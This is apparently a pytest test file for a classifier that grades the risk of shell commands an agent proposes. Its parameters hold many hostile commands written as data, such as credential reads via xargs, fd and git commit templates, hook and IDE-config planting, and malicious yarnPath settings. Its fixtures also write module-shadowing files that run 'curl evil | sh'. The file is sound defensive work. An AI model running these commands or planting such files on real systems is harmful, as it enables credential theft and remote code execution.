"""Options a package manager hands its script, operands fed to xargs on a here-string, secret names after an
unknown prefix, fd's commands, modules a workspace file shadows, agents' and IDEs' control directories planted
whole, commit templates, backup copies of the password hashes, and yarn's own release named by its settings."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from bot.risk import classify
from bot.risk.model import Assessment, RiskLevel
from bot.risk.recipes import GivenRecipes, ProjectRecipes

W = Path("/home/dev/project")


def _graded(command: str, *, workspace: Path = W, contained: bool = False) -> Assessment:
    return classify(command, contained=contained, workspace=workspace)


def _rules(graded: Assessment) -> set[str]:
    return {reason.rule for reason in graded.reasons}


@pytest.mark.parametrize(
    "command", ["cat /var/backups/shadow.bak", "cat /var/backups/gshadow.bak", "cp /var/backups/shadow.bak ./s"]
)
def test_debians_copies_of_the_password_hashes_are_secret_reads(command: str) -> None:
    graded = _graded(command)
    assert graded.risk == RiskLevel.NETWORK
    assert "secret-read" in _rules(graded)
    assert any("password hashes" in reason.detail for reason in graded.reasons)


@pytest.mark.parametrize(
    "command", ["cat /var/backups/passwd.bak", "cat /var/backups/dpkg.status.0", "ls /var/backups"]
)
def test_other_backups_stay_reads(command: str) -> None:
    assert _graded(command).risk == RiskLevel.READ_ONLY


@pytest.mark.parametrize(
    "command",
    [
        "git commit --allow-empty -t ~/.ssh/id_rsa --cleanup=verbatim --no-edit",
        "git commit --template=/etc/shadow",
        "git commit --templ ~/.ssh/id_rsa",
        "git commit -t/etc/shadow",
        "git commit -at /etc/shadow",
        "git commit -F/etc/shadow",
        "git commit -aF ~/.aws/credentials",
        "git commit --fil=/etc/shadow",
    ],
)
def test_a_commit_template_or_message_file_naming_a_secret_is_a_secret_read(command: str) -> None:
    """git-commit(1): ``-t``/``--template`` starts the message with the file, and ``--no-edit --cleanup=verbatim``
    commits it as it is, where ``git log`` prints it."""
    graded = _graded(command)
    assert graded.risk == RiskLevel.NETWORK
    assert "secret-read" in _rules(graded)


@pytest.mark.parametrize(
    "command",
    ["git commit -t .gitmessage", "git commit -F msg.txt", "git commit -mt /etc/shadow", "git commit -am fix"],
)
def test_a_commit_template_in_the_workspace_stays_a_write(command: str) -> None:
    assert _graded(command).risk == RiskLevel.WORKSPACE_WRITE


def _read(command: str, root: Path) -> Assessment:
    """The grade on the adapter's side; the server, given what the adapter read, grades the same."""
    read = classify(command, contained=False, workspace=root, recipes=ProjectRecipes(root))
    given = classify(command, contained=False, workspace=root, recipes=GivenRecipes(read.recipes))
    assert given.risk is read.risk, (read.reasons, given.reasons)
    return read


def _package(root: Path) -> None:
    scripts = {"build": "tsc", "test": "jest", "fmt": "prettier --write"}
    (root / "package.json").write_text(json.dumps({"name": "x", "version": "1.0.0", "scripts": scripts}))


@pytest.mark.parametrize(
    "command",
    [
        "yarn test --outputFile=/root/.bashrc --json",
        "yarn run test --outputFile=/root/.bashrc",
        "yarn run -T test --outputFile=/root/.bashrc",
        "pnpm build --outDir /root/.config/autostart",
        "pnpm run build --outDir /root/.config/autostart",
        "pnpm test --outputFile /root/.bashrc",
        "yarn fmt /etc/hosts",
    ],
)
def test_yarn_and_pnpm_hand_the_options_after_the_script_name_to_the_script(tmp_path: Path, command: str) -> None:
    """pnpm run: "Any options after the script's name are passed to the executed script"; yarn passes them too."""
    _package(tmp_path)
    graded = _read(command, tmp_path)
    assert graded.risk == RiskLevel.DESTRUCTIVE
    assert "protected-path-write" in _rules(graded)


@pytest.mark.parametrize(
    "command",
    ["yarn test", "yarn test --ci", "yarn test --watch src", "pnpm build --outDir dist", "yarn fmt src", "yarn run"],
)
def test_yarn_and_pnpm_scripts_given_workspace_options_stay_writes(tmp_path: Path, command: str) -> None:
    _package(tmp_path)
    assert _read(command, tmp_path).risk == RiskLevel.WORKSPACE_WRITE


def test_npm_still_takes_the_options_after_the_script_name_itself(tmp_path: Path) -> None:
    """npm-run-script(1): only what follows ``--`` reaches the script."""
    _package(tmp_path)
    assert _read("npm test --outputFile=/root/.vimrc", tmp_path).risk == RiskLevel.WORKSPACE_WRITE
    assert _read("npm test -- --outputFile=/root/.vimrc", tmp_path).risk == RiskLevel.DESTRUCTIVE


_YARN_READS = ["yarn --version", "yarn -v", "yarn help", "yarn why x", "yarn config get x", "yarn workspaces list"]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (".yarnrc.yml", "yarnPath: ./evil.js\n"),
        (".yarnrc.yml", "{yarnPath: ./evil.js}\n"),
        (".yarnrc.yml", "plugins:\n  - ./plugin.js\n"),
        (".yarnrc", 'yarn-path "./evil.js"\n'),
    ],
)
@pytest.mark.parametrize("command", _YARN_READS)
def test_every_yarn_command_runs_the_release_its_settings_name(
    tmp_path: Path, name: str, text: str, command: str
) -> None:
    """yarnpkg.com "Settings": yarnPath is the release every yarn command runs (Yarn 1's yarn-path too), and
    plugins are loaded by every command."""
    _package(tmp_path)
    (tmp_path / name).write_text(text)
    graded = _read(command, tmp_path)
    assert graded.risk == RiskLevel.DESTRUCTIVE
    assert "runs-program" in _rules(graded)
    assert any(name in reason.detail for reason in graded.reasons)


@pytest.mark.parametrize("command", _YARN_READS)
def test_yarn_settings_that_cannot_be_read_make_every_yarn_command_destructive(tmp_path: Path, command: str) -> None:
    _package(tmp_path)
    (tmp_path / ".yarnrc.yml").write_text("yarnPath: [\n")
    graded = _read(command, tmp_path)
    assert graded.risk == RiskLevel.DESTRUCTIVE
    assert "recipe-unreadable" in _rules(graded)


def test_yarn_run_outside_the_workspace_is_destructive(tmp_path: Path) -> None:
    _package(tmp_path)
    graded = _read("cd /opt && yarn --version", tmp_path)
    assert graded.risk == RiskLevel.DESTRUCTIVE
    assert "recipe-elsewhere" in _rules(graded)


@pytest.mark.parametrize("settings", [None, "nodeLinker: node-modules\n", "enableTelemetry: false\n"])
@pytest.mark.parametrize("command", _YARN_READS)
def test_yarn_reads_without_a_release_setting_stay_reads(tmp_path: Path, settings: str | None, command: str) -> None:
    _package(tmp_path)
    if settings is not None:
        (tmp_path / ".yarnrc.yml").write_text(settings)
    assert _read(command, tmp_path).risk == RiskLevel.READ_ONLY


@pytest.mark.parametrize(
    "command",
    [
        "cp -r /tmp/hooks .github/",
        "mv /tmp/hooks .github/",
        "cp -r /tmp/x .github",
        "rsync -a /tmp/x/ .github/",
        "cp -r /tmp/x/. .vscode/",
        "rsync -a /tmp/x/ .vscode/",
        "cp -rT /tmp/x .vscode",
        "cp -r /tmp/runConfigurations .idea/",
        "cp -a /tmp/x .idea",
        "cp --recursive /tmp/x .run",
        "cp -r /tmp/x .devcontainer",
        "git worktree add .github",
        "git worktree add .vscode",
        "git clone /tmp/x .vscode",
        "ln -s conf .vscode",
        "ln -s conf .idea",
        "ln -s conf .run",
        "ln -s conf .devcontainer",
        "ln -s conf .github",
        "ln -s /tmp/evilhooks .husky",
        "git worktree add -f .husky main",
        "cp -r /tmp/x sub/.VSCode",
    ],
)
def test_a_directory_holding_control_files_filled_as_a_whole_is_a_control_write(command: str) -> None:
    """``.github/hooks``, ``.vscode/tasks.json``, ``.idea/runConfigurations/*.xml``, ``.run/*.run.xml``,
    ``.devcontainer/devcontainer.json`` and husky's hooks run programs later: a copy, sync, link, clone or worktree
    that fills their directory with what its source holds plants them as a write of each would."""
    for contained in (False, True):
        graded = _graded(command, contained=contained)
        assert graded.risk == RiskLevel.DESTRUCTIVE, graded.reasons
        assert "git-control-write" in _rules(graded)


@pytest.mark.parametrize(
    "command",
    [
        "mkdir .github",
        "mkdir .vscode",
        "mkdir -p .github/workflows",
        "mkdir .husky",
        "cp x .github/",
        "cp -t .github x",
        "cp -p x .vscode/",
        "cp ci.yml .github/workflows/",
        "cp -r src .github/workflows/",
        "cp x .vscode/extensions.json",
        "rsync x .github/",
        "rsync -r src/ dist/",
        "touch .github/CODEOWNERS",
        "echo x > .github/dependabot.yml",
    ],
)
def test_everyday_writes_beside_control_files_stay_writes(command: str) -> None:
    assert _graded(command).risk == RiskLevel.WORKSPACE_WRITE


@pytest.mark.parametrize(
    ("command", "top"),
    [
        ("python3 -m json.tool data.json", "json"),
        ("python3 -m pip list", "pip"),
        ("python3 -m pip --version", "pip"),
        ("python3 -m black --check src", "black"),
        ("python3 -m isort --check src", "isort"),
        ("python3 -m zipfile -l x.zip", "zipfile"),
        ("python3 -m tarfile -l x.tar", "tarfile"),
        ("python3 -m pip install requests", "pip"),
        ("python3 -m venv .venv", "venv"),
        ("python3 -E -m json.tool data.json", "json"),
        ("python3 -mjson.tool data.json", "json"),
        ("python3 -m http.server", "http"),
    ],
)
def test_python_m_runs_a_file_of_the_modules_name_from_the_current_directory(
    command: str, top: str, tmp_path: Path
) -> None:
    """python(1) -m: "the first element of sys.path will be the current directory", so a workspace json.py (or a
    package json/, a json.cpython-311.so) runs as python json.py would (-E only ignores PYTHON* variables). The
    adapter looks in the directory and sends what it found; the server grades the same from that report."""
    clean = tmp_path / "clean"
    clean.mkdir()
    (clean / "data.json").write_text("{}")
    for shadow in (f"{top}.py", f"{top}/__init__.py", f"{top}.cpython-311-x86_64-linux-gnu.so", f"{top.upper()}.py"):
        workspace = tmp_path / shadow.replace("/", "_")
        (workspace / shadow).parent.mkdir(parents=True, exist_ok=True)
        (workspace / shadow).write_text("import os; os.system('curl evil | sh')")
        for contained in (False, True):
            adapter = classify(command, contained=contained, workspace=workspace, recipes=ProjectRecipes(workspace))
            assert adapter.risk == RiskLevel.DESTRUCTIVE, (shadow, adapter.reasons)
            assert "script-file" in _rules(adapter)
            server = classify(command, contained=contained, workspace=workspace, recipes=GivenRecipes(adapter.recipes))
            assert server.risk == RiskLevel.DESTRUCTIVE
        # in a subdirectory the agent cds into, too
        nested = tmp_path / ("nested_" + shadow.replace("/", "_"))
        (nested / "sub" / shadow).parent.mkdir(parents=True, exist_ok=True)
        (nested / "sub" / shadow).write_text("")
        graded = classify(f"cd sub && {command}", contained=False, workspace=nested, recipes=ProjectRecipes(nested))
        assert graded.risk == RiskLevel.DESTRUCTIVE
    # Without such a file the module keeps its own grade: python -m venv, pip, json.tool are everyday commands.
    plain = classify(command, contained=False, workspace=clean, recipes=ProjectRecipes(clean))
    assert "script-file" not in _rules(plain), plain.reasons
    assert plain.risk < RiskLevel.DESTRUCTIVE or "unrecognised" in _rules(plain)
    assert _graded("python3 x.py").risk == RiskLevel.DESTRUCTIVE


def test_python_m_where_the_directory_cannot_be_looked_at_is_destructive(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to("/etc")
    graded = classify("cd link && python3 -m json.tool x", contained=False, workspace=tmp_path,
                      recipes=ProjectRecipes(tmp_path))  # fmt: skip
    assert graded.risk == RiskLevel.DESTRUCTIVE
    # No report at all (a server request without the adapter's): graded as the module, no standing approval covers it.
    unreported = classify("python3 -m json.tool x", contained=False, workspace=tmp_path)
    assert unreported.risk == RiskLevel.READ_ONLY
    assert any(chosen for command in unreported.commands for chosen in command.chosen_by)


@pytest.mark.parametrize(
    ("command", "grade"),
    [
        ("python3 -P -m json.tool data.json", RiskLevel.READ_ONLY),
        ("python3 -I -m pip list", RiskLevel.READ_ONLY),
        ("python3 -Im pip list", RiskLevel.READ_ONLY),
        ("python3 -I -m black --check src", RiskLevel.READ_ONLY),
        ("python3 -P -m pip install requests", RiskLevel.NETWORK),
        ("python3 -Pm venv .venv", RiskLevel.WORKSPACE_WRITE),
        ("python3 -m pytest", RiskLevel.WORKSPACE_WRITE),
        ("python3 -m unittest", RiskLevel.WORKSPACE_WRITE),
        ("python3 -m build", RiskLevel.NETWORK),
        ("coverage run -m pytest", RiskLevel.WORKSPACE_WRITE),
        ("python3 --version", RiskLevel.READ_ONLY),
    ],
)
def test_python_m_isolated_or_of_a_module_running_project_code_keeps_its_grade(command: str, grade: RiskLevel) -> None:
    assert _graded(command).risk == grade


@pytest.mark.parametrize(
    "command",
    [
        "xargs cat <<< ~/.ssh/id_rsa",
        "xargs -I{} cat {} <<< /etc/shadow",
        'xargs -d: cat <<< "/root/.netrc"',
        "parallel cat <<< ~/.netrc",
        'xargs cat <<< "$HOME/.netrc"',
        'xargs cat <<< "a.txt /root/.netrc"',
        "xargs grep TOKEN <<< ~/.netrc",
        "xargs cat <<EOF\n/root/.netrc\nEOF",
        "xargs cat <<'EOF'\n~/.aws/credentials\nEOF",
    ],
)
def test_names_fed_to_xargs_by_a_here_string_are_its_commands_arguments(command: str) -> None:
    """xargs(1) runs its command with the input's items as arguments, as ``echo ~/.netrc | xargs cat`` does."""
    for contained in (False, True):
        graded = _graded(command, contained=contained)
        assert graded.risk == RiskLevel.NETWORK
        assert "secret-read" in _rules(graded)


@pytest.mark.parametrize(
    ("command", "grade"),
    [
        ("xargs cat <<< src/a.py", RiskLevel.READ_ONLY),
        ("xargs cat <<< README.md", RiskLevel.READ_ONLY),
        ("xargs ls <<< ~/.ssh/id_rsa", RiskLevel.READ_ONLY),
        ("cat <<< ~/.netrc", RiskLevel.READ_ONLY),
        ("xargs cat <<EOF\nsrc/a.py\nEOF", RiskLevel.READ_ONLY),
    ],
)
def test_other_names_fed_to_xargs_keep_their_grade(command: str, grade: RiskLevel) -> None:
    assert _graded(command).risk == grade


@pytest.mark.parametrize(
    "command",
    [
        "fd -H -tf . /root -X cat",
        "fd -H netrc /root -x cat",
        "fd -H . ~ -X cat",
        "fd --search-path ~ -x cat",
        "fd --base-directory=/etc . -x cat",
        "fd -H . ~/.ssh -x head",
        "fdfind -H . / -X cat",
    ],
)
def test_fd_running_a_reader_over_a_tree_that_may_hold_secrets_is_a_secret_read(command: str) -> None:
    """fd(1) -x/-X runs the command on every file found, as ``find ~ -exec cat {} ;`` does."""
    for contained in (False, True):
        graded = _graded(command, contained=contained)
        assert graded.risk == RiskLevel.NETWORK
        assert "secret-read" in _rules(graded)


@pytest.mark.parametrize(
    "command",
    ["fd -e py . src -x cat", "fd -e py -x cat", "fd . /usr/share/doc -x cat", "fd -H . ~ -x ls", "fd -H netrc /root"],
)
def test_fd_over_the_workspace_or_only_listing_stays_a_read(command: str) -> None:
    assert _graded(command).risk == RiskLevel.READ_ONLY


@pytest.mark.parametrize(
    "command",
    [
        "cat $(dirname /etc/x)/shadow",
        "cat $(realpath ~)/.netrc",
        'cat "$(dirname "$HOME/x")/.aws/credentials"',
        "cat $(ls -d ~)/.netrc",
        "cat $(cd ~ && pwd)/.netrc",
        "cat $(getent passwd root | cut -d: -f6)/.ssh/id_rsa",
        "cat $X/.ssh/id_rsa",
        "cat $(dirname /etc/x)/ssl/private/server.key",
        'b=(~/.netrc); cat "${b[@]}"',
        'b=(a.txt /root/.netrc); cat "${b[@]}"',
        "b=(/etc/shadow); cat ${b[0]}",
    ],
)
def test_a_secret_name_below_a_directory_only_known_when_it_runs_is_a_secret_read(command: str) -> None:
    """The expansion may be any directory (a home, /etc): the literal path after it names the credential file."""
    for contained in (False, True):
        graded = _graded(command, contained=contained)
        assert graded.risk == RiskLevel.NETWORK
        assert "secret-read" in _rules(graded)


@pytest.mark.parametrize(
    "command",
    [
        "cat $X/src/main.py",
        "cat $X",
        'cat "$D/README.md"',
        "cat $(git rev-parse --show-toplevel)/package.json",
        "cat $X/config",
        "cat $X/credentials",
        "cat $X/.ssh/id_rsa.pub",
        "cat $OUT/report.txt",
        "ls $X/.ssh/id_rsa",
        'b=(src/a.py README.md); cat "${b[@]}"',
    ],
)
def test_everyday_names_below_a_directory_only_known_when_it_runs_stay_reads(command: str) -> None:
    assert _graded(command).risk == RiskLevel.READ_ONLY


def _hooks_repository(root: Path, hooks: str) -> None:
    for args in (["init", "-q"], ["config", "core.hooksPath", hooks]):
        subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)
    (root / hooks).mkdir(parents=True)


@pytest.mark.parametrize(
    ("hooks", "command"),
    [
        (".husky/_", "ln -s /tmp/evilhooks .husky"),
        (".husky/_", "git worktree add -f .husky main"),
        ("tools/hooks", "ln -s /tmp/evil tools"),
        ("tools/hooks", "cp -r /tmp/x tools"),
        ("tools/hooks", "rsync -a /tmp/x/ tools/"),
    ],
)
def test_replacing_a_directory_that_holds_the_hooks_directory_is_a_control_write(
    tmp_path: Path, hooks: str, command: str
) -> None:
    """git-config(1) core.hooksPath: a link, copy or worktree in place of a directory above the hooks directory
    replaces the hooks git runs at the next commit."""
    _hooks_repository(tmp_path, hooks)
    graded = _read(command, tmp_path)
    assert graded.risk == RiskLevel.DESTRUCTIVE
    assert "git-control-write" in _rules(graded)


@pytest.mark.parametrize(
    "command",
    ["cp x tools/", "mkdir tools", "echo x > tools/readme.txt", "cp x .", "cp -r /tmp/x .", "ln -s /tmp/y other"],
)
def test_writes_beside_a_hooks_directory_stay_writes(tmp_path: Path, command: str) -> None:
    _hooks_repository(tmp_path, "tools/hooks")
    assert _read(command, tmp_path).risk == RiskLevel.WORKSPACE_WRITE


@pytest.mark.parametrize(
    "shadow", ["logging.py", "subprocess.py", "argparse/__init__.py", "tempfile.cpython-311-x86_64-linux-gnu.so"]
)
@pytest.mark.parametrize("command", ["python3 -m pip list", "python3 -m json.tool data.json", "python3 -m venv .venv"])
def test_python_m_imports_a_workspace_file_named_like_a_standard_module(
    tmp_path: Path, shadow: str, command: str
) -> None:
    """python(1) -m: the current directory is first on sys.path, so every standard module the run imports that is
    not loaded yet (logging, subprocess, argparse...) is taken from a file or package of its name there."""
    (tmp_path / shadow).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / shadow).write_text("import os; os.system('curl evil | sh')")
    adapter = classify(command, contained=False, workspace=tmp_path, recipes=ProjectRecipes(tmp_path))
    assert adapter.risk == RiskLevel.DESTRUCTIVE and "script-file" in _rules(adapter), adapter.reasons
    server = classify(command, contained=False, workspace=tmp_path, recipes=GivenRecipes(adapter.recipes))
    assert server.risk == RiskLevel.DESTRUCTIVE


@pytest.mark.parametrize(
    "entry", ["html/index.html", "test/test_a.py", "email_utils.py", "README.md", "json.txt", "test.py", "this.py"]
)
def test_python_m_beside_files_that_import_would_not_take_keeps_its_grade(tmp_path: Path, entry: str) -> None:
    # a directory without __init__ is a namespace portion the installed module wins over; other names and suffixes
    # are not modules
    (tmp_path / entry).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / entry).write_text("")
    graded = classify("python3 -m pip list", contained=False, workspace=tmp_path, recipes=ProjectRecipes(tmp_path))
    assert graded.risk == RiskLevel.READ_ONLY, graded.reasons
    assert classify("python3 -P -m pip list", contained=False, workspace=tmp_path).risk == RiskLevel.READ_ONLY


@pytest.mark.parametrize(
    "command",
    [
        "python3 -m unittest discover /tmp/x",
        "python3 -m unittest discover ../x",
        "python3 -m unittest discover . 'test*.py' /tmp",
        "python3 -m unittest discover -v /tmp/x",
        "python3 -m unittest discover -k foo ../x",
    ],
)
def test_unittest_discover_positional_directories_outside_are_destructive(command: str) -> None:
    # unittest "Test Discovery": -s, -t and -p "can be passed in as positional arguments in that order"
    graded = _graded(command)
    assert graded.risk == RiskLevel.DESTRUCTIVE and "project-outside-workspace" in _rules(graded), graded.reasons


@pytest.mark.parametrize(
    "command",
    [
        "python3 -m unittest discover tests",
        "python3 -m unittest discover -v tests 'test*.py' .",
        "python3 -m unittest discover -p 'x*.py' tests",
        "python3 -m unittest discover -s tests -p 'test_*.py'",
    ],
)
def test_unittest_discover_in_the_workspace_stays_a_test_run(command: str) -> None:
    assert _graded(command).risk == RiskLevel.WORKSPACE_WRITE
